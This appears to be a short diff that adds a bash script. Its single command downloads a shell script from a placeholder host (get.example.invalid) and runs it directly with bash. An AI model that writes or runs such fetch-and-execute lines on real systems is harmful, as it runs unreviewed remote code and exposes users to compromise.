@@ -1,0 +1,2 @@
+#!/bin/bash
+bash -c "$(curl -fsSL https://get.example.invalid/i.sh)"
